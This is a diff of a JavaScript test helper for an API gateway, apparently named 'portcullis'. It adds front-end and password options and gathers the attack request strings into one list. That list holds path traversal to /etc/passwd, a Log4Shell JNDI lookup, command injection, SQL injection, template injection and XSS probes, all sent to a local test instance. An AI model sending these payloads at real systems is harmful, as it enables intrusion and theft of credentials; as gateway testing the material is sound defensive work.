@@ -6,6 +6,7 @@ import http from "node:http";
 import net from "node:net";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
+import { startFront } from "./front.mjs";
 
 /** How long anything may take on a slow machine. Conditions are waited for, never times. */
 export const PATIENCE = 60_000;
@@ -23,6 +24,16 @@ export const PAYLOADS = [
   "javascript:window.pwned=1",
   "' UNION SELECT name, password FROM users--",
   "\u202e<b>gnp.exe",
+];
+
+const ATTACKS = [
+  "/../../etc/passwd",
+  "/.git/config",
+  "/?x=%24%7Bjndi:ldap://203.0.113.9/a%7D",
+  "/?c=;cat%20/etc/passwd",
+  "/search?t=%7B%7B7*7%7D%7D",
+  "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+  "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
 ];
 
 /** What a browser says of itself. */
@@ -53,8 +64,13 @@ export async function until(what, condition, patience = PATIENCE) {
 }
 
 export class Gateway {
-  static async start() {
+  /**
+   * `config` goes over what all have; with `password` there is no one-time password; `prepare` is called with the state's
+   * folder before the first start.
+   */
+  static async start({ config: more = {}, password, prepare } = {}) {
     const gateway = new Gateway();
+    gateway.password = password;
     gateway.folder = mkdtempSync(join(tmpdir(), "portcullis-console-"));
     gateway.api = http.createServer((request, response) => {
       request.resume();
@@ -71,11 +87,14 @@ export class Gateway {
       upstreams: { api: { servers: [`http://127.0.0.1:${gateway.api.address().port}`] } },
       routes: [{ name: "api", path: "/", upstream: "api" }],
       behaviour: { enabled: true },
+      ...more,
     };
     // JSON is YAML, too.
     writeFileSync(join(gateway.folder, "config.yaml"), JSON.stringify(config));
     try {
+      await prepare?.(join(gateway.folder, "state"));
       await gateway.up();
+      if (process.env.CONSOLE_SITE) gateway.front = await startFront(process.env.CONSOLE_SITE, gateway.admin);
     } catch (error) {
       await gateway.stop();
       throw error;
@@ -84,13 +103,14 @@ export class Gateway {
   }
 
   get url() {
-    return `http://127.0.0.1:${this.admin}`;
+    return `http://127.0.0.1:${this.front?.address().port ?? this.admin}`;
   }
 
   /** Starts the process; the second time with the same state on the same ports. */
   async up() {
     this.log = "";
     const { PORTCULLIS_ADMIN_PASSWORD: _, ...env } = process.env;
+    if (this.password) env.PORTCULLIS_ADMIN_PASSWORD = this.password;
     this.child = spawn(
       binary,
       ["run", "--config", join(this.folder, "config.yaml"), "--state-dir", join(this.folder, "state")],
@@ -104,7 +124,7 @@ export class Gateway {
       return this.log.includes("console at ");
     });
     await until("readiness", () =>
-      fetch(`${this.url}/readyz`).then(
+      fetch(`http://127.0.0.1:${this.admin}/readyz`).then(
         (answer) => answer.ok,
         () => false,
       ),
@@ -122,6 +142,8 @@ export class Gateway {
     if (this.child.exitCode === null) await this.down();
     this.api.close();
     this.api.closeAllConnections();
+    this.front?.close();
+    this.front?.closeAllConnections();
     rmSync(this.folder, { recursive: true, force: true });
   }
 
@@ -170,13 +192,11 @@ export class Gateway {
         body: JSON.stringify({ user: payload, password: "x" }),
       });
     }
-    for (const target of [
-      "/../../etc/passwd",
-      "/.git/config",
-      "/?x=%24%7Bjndi:ldap://203.0.113.9/a%7D",
-      "/?c=;cat%20/etc/passwd",
-    ]) {
-      await this.request(target, { client: "198.51.100.77" });
-    }
+    await this.attacks("198.51.100.77");
+  }
+
+  /** One client that tries one thing after the other. */
+  async attacks(client) {
+    for (const target of ATTACKS) await this.request(target, { client });
   }
 }
